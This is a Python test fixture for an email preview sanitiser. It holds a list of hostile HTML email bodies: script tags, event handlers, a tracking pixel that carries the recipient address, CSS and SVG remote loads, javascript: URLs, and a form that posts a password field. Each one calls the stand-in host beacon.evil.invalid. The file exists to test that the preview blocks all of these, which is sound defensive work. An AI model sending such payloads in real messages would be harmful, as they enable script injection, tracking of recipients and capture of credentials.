"""Hostile messages for the preview: each tries to run script or load something remote.

Every remote URL points at a host under ``.invalid`` plus a marker path, so a
browser request for any of them is easy to spot (and could never resolve anyway).
"""

from __future__ import annotations

from email.message import EmailMessage

EVIL = "http://beacon.evil.invalid"

# name -> HTML body; each one must neither run script nor load anything
ATTACKS: dict[str, str] = {
    "script": f'<p>hello</p><script>document.title="PWNED"; new Image().src="{EVIL}/script.gif"</script>',
    "event-handlers": f'<img src="x" onerror="document.title=\'PWNED\'"><body onload="fetch(\'{EVIL}/onload\')">'
                      f'<div onmouseover="alert(1)">hover</div>',
    "pixel": f'<p>Dear reader</p><img src="{EVIL}/pixel.gif?u=rhys.lindgren%40parliament.example" width="1" height="1">',
    "css-url": f'<div style="background:url({EVIL}/css-bg.png)">bg</div>'
               f'<div style="background-image: url(&quot;{EVIL}/css-bg2.png&quot;)">bg2</div>'
               f'<div style="background:u\\72l({EVIL}/css-escape.png)">escaped</div>',
    "css-import": f'<style>@import url("{EVIL}/import.css"); body {{ background: url({EVIL}/style-bg.png) }}</style><p>styled</p>',
    "srcset": f'<img srcset="{EVIL}/srcset-1x.png 1x, {EVIL}/srcset-2x.png 2x" alt="s">'
              f'<picture><source srcset="{EVIL}/picture.webp"><img src="{EVIL}/picture.png"></picture>',
    "background-attr": f'<table background="{EVIL}/table-bg.png"><tr><td background="{EVIL}/td-bg.png">cell</td></tr></table>'
                       f'<body background="{EVIL}/body-bg.png">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh"><p>refresh</p>',
    "base-href": f'<base href="{EVIL}/base/"><img src="relative.png"><a href="relative-link">link</a>',
    "svg-xlink": f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{EVIL}/svg-image.png" width="10" height="10"/>'
                 f'<use xlink:href="{EVIL}/svg-use.svg#a"/><script>document.title="PWNED"</script></svg>',
    "iframe": f'<iframe src="{EVIL}/frame.html"></iframe><object data="{EVIL}/object.swf"></object>'
              f'<embed src="{EVIL}/embed.swf"><frameset><frame src="{EVIL}/frame2.html"></frameset>',
    "link-stylesheet": f'<link rel="stylesheet" href="{EVIL}/link.css"><link rel="prefetch" href="{EVIL}/prefetch">'
                       f'<link rel="dns-prefetch" href="{EVIL}/dns">',
    "media": f'<video src="{EVIL}/video.mp4" poster="{EVIL}/poster.png" autoplay></video>'
             f'<audio src="{EVIL}/audio.mp3" autoplay></audio>',
    "form": f'<form action="{EVIL}/form" method="post"><input name="password" type="password">'
            f'<input type="image" src="{EVIL}/input-image.png"><button formaction="{EVIL}/formaction">go</button></form>',
    "javascript-url": '<a href="javascript:document.title=\'PWNED\'">click</a>'
                      '<img src="javascript:document.title=\'PWNED\'">',
    "data-svg-script": '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22document.title=1%22/%3E">',
    "vml-comment": f'<!--[if gte mso 9]><v:image src="{EVIL}/vml.png"/><![endif]--><p>outlook</p>',
    "font-face": f'<style>@font-face {{ font-family: x; src: url({EVIL}/font.woff) }} p {{ font-family: x }}</style><p>font</p>',
    "lowsrc-dynsrc": f'<img lowsrc="{EVIL}/lowsrc.png" dynsrc="{EVIL}/dynsrc.avi" src="{EVIL}/plain.png">',
}


def crafted_message(name: str, html: str, *, recipient: str = "rhys.lindgren@parliament.example") -> bytes:
    msg = EmailMessage()
    msg["From"] = "Newsdesk <desk@newswire-example.invalid>"
    msg["To"] = recipient
    msg["Subject"] = f"crafted {name}"
    msg["Date"] = "Mon, 03 May 2021 09:00:00 +0000"
    msg["Message-ID"] = f"<crafted-{name}@newswire-example.invalid>"
    msg.set_content(f"plain text of {name}")
    msg.add_alternative(f"<html><head></head><body>{html}<p id='marker'>MARKER-{name}</p></body></html>", subtype="html")
    return msg.as_bytes()
